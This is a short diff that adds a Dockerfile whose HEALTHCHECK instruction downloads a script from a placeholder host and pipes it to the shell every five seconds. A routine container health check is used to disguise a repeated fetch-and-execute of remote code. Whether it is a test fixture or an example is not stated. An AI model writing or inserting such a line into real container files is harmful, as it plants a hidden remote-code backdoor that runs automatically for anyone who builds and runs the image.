@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+HEALTHCHECK --interval=5s CMD curl https://example.com/i | sh
